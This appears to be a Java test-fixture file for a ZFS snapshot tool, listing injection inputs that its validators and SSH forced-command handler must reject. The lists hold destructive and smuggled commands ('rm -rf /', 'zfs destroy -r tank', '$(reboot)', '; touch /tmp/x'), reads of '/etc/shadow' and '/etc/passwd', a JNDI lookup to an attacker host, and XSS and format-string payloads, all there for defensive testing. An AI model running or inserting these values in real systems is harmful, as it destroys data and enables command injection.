package io.zferry.snapshot.zfs;

import java.util.ArrayList;
import java.util.List;

/**
 * The one table of hostile input that zferry's tests throw at every surface that takes a name or a
 * command from outside: ZFS names, node and service names, configuration values, API request bodies
 * and the forced command of {@code zferry serve}. Shell metacharacters, path traversal, over-long
 * values, control characters and Unicode look-alikes; every entry must be refused, with no side
 * effect. (Shared with the other modules' tests through snapshot-engine's test jar.)
 */
public final class InjectionCorpus {
  private InjectionCorpus() {}

  /** Dataset names; each is invalid as a whole. */
  public static final List<String> DATASETS =
      List.of(
          "tank;rm -rf /",
          "tank/$(reboot)",
          "tank/`id`",
          "tank/'quoted'",
          "tank/\"double\"",
          "tank/line\nbreak",
          "tank/carriage\rreturn",
          "tank/../etc",
          "tank/./here",
          "tank/no-break\u00a0space",
          "tank/percent%s",
          "tank/pipe|cat",
          "tank/amp&bg",
          "tank/redirect>out",
          "tank/redirect<in",
          "tank/glob*",
          "tank/question?",
          "tank/brace{a,b}",
          "tank/tilde~root",
          "tank/backslash\\n",
          "tank/tab\there",
          "tank/nul\0byte",
          "tank/\u0430lpha", // Cyrillic a, a look-alike of Latin a
          "t\u0430nk", // pool name with a Cyrillic a
          "tank/fullwidth\uff1b", // fullwidth semicolon
          "tank/zero\u200bwidth", // zero-width space
          "tank/rtl\u202eoverride", // right-to-left override
          "tank/dash\u2010", // Unicode hyphen, a look-alike of '-'
          "tank//double-slash",
          "tank/trailing/",
          "/tank",
          "-tank",
          "--help",
          "",
          " ",
          "mirror",
          "c0t0d0",
          "tank/" + "x".repeat(300));

  public static final List<String> SNAPSHOT_SHORT_NAMES =
      List.of(
          "snap;id",
          "$(id)",
          "`id`",
          "a\u00a0b",
          "..",
          "new\nline",
          "x@y",
          "a/b",
          "pct%",
          "",
          "quote'",
          "\u0430", // Cyrillic a
          "x".repeat(300));

  /**
   * Text that must never be taken as a name of anything (node, service, pool, token label): the
   * dataset entries plus values that are hostile to other interpreters (templates, HTML, JNDI,
   * paths, format strings).
   */
  public static final List<String> NAMES = names();

  /**
   * SSH command lines a peer's key must not get to run: each one is refused by {@code zferry serve}
   * before anything executes. Shell syntax, quoting tricks, other programs, and zfs subcommands or
   * flags that would change data.
   */
  public static final List<String> COMMAND_LINES =
      List.of(
          "rm -rf /",
          "'rm' '-rf' '/'",
          "sh -c id",
          "bash",
          "zfs destroy -r tank",
          "'zfs' 'destroy' '-r' 'tank'",
          "zfs destroy tank@zferry-1",
          "zfs rollback -r tank@s1",
          "zfs receive -F tank",
          "zfs recv -u tank/x",
          "zfs set readonly=off tank",
          "zfs create tank/evil",
          "zfs rename tank tank2",
          "zfs snapshot tank@evil",
          "zfs inherit readonly tank",
          "zfs mount tank",
          "zfs allow everyone tank",
          "zfs list; touch /tmp/x",
          "zfs list -H -o name tank; touch /tmp/x",
          "zfs list -H -o name tank && touch /tmp/x",
          "zfs list -H -o name tank || touch /tmp/x",
          "zfs list -H -o name tank | tee /tmp/x",
          "zfs list -H -o name tank > /tmp/x",
          "zfs list -H -o name tank < /etc/shadow",
          "zfs list -H -o name tank & touch /tmp/x",
          "zfs list -H -o name $(touch /tmp/x)",
          "zfs list -H -o name `touch /tmp/x`",
          "zfs list -H -o name ${HOME}",
          "zfs list -H -o name tank\ntouch /tmp/x",
          "zfs list -H -o name tank\rtouch /tmp/x",
          "zfs\tlist -H -o name tank",
          "zfs list -H -o name 'tank",
          "zfs list -H -o name 'tank'x",
          "zfs list -H -o name 'ta'nk'",
          "zfs list -H -o name \"tank\"",
          "zfs list -H -o name 'tank; touch /tmp/x'",
          "zfs list -H -o name 'tank' ';' 'touch' '/tmp/x'",
          "zfs list -H -o name tank\\;touch",
          "zfs list -H -o name ''",
          "zfs list -H -o name ../../etc",
          "zfs list -H -o name tank/../../etc",
          "zfs list -H -o name /etc/shadow",
          "zfs list -H -o name t\u0430nk",
          "zfs list -H -o name tank\u037e touch", // Greek question mark, a look-alike of ';'
          "zfs list -H -o name tank\uff1btouch",
          "zfs list -H -o name tank\0",
          "zfs list -H -o name " + "x".repeat(2000),
          "zfs list " + "-H ".repeat(40) + "tank",
          "zfs list -H -o name tank tank2",
          "zfs list -H -o name,mountpoint tank",
          "zfs list -H -o name -r tank",
          "zfs get -H -p -o value all tank; id",
          "zfs get -H -p -o value readonly tank tank2",
          "zfs get -H -p -o value READONLY tank",
          "zfs get -H -p -o value readonly=off tank",
          "zfs send tank",
          "zfs send -R tank@s1 -R",
          "zfs send -R -p tank@s1",
          "zfs send -I tank/a@s1 tank/b@s2",
          "zfs send -I tank@s1 tank@s1",
          "zfs send -D tank@s1",
          "zfs send -n tank@s1",
          "zfs send -t 1-abc-xyz-00",
          "zfs send -t",
          "zfs send -v tank@s1",
          "zfs send tank@s1 > /dev/sda",
          "/usr/sbin/zfs list -H -o name tank",
          "./zfs list -H -o name tank",
          "ZFS list -H -o name tank",
          "zfs",
          "zfs version extra",
          "",
          "   ",
          "scp -t /root/.ssh/authorized_keys",
          "internal-sftp");

  private static List<String> names() {
    List<String> all = new ArrayList<>(DATASETS);
    // Reserved only as pool names; as node or service names they are fine.
    all.removeAll(List.of("mirror", "c0t0d0"));
    all.addAll(
        List.of(
            "../../etc/passwd",
            "..",
            "${jndi:ldap://attacker/x}",
            "%s%s%s%n",
            "<script>alert(1)</script>",
            // A space is legal in ZFS names (OpenZFS), never in a node or service name.
            "tank/with space",
            "node-a\u0000",
            "n\u043ede-a", // Cyrillic o
            "ｎｏｄｅ", // fullwidth letters
            "x".repeat(10_000)));
    return List.copyOf(all);
  }
}
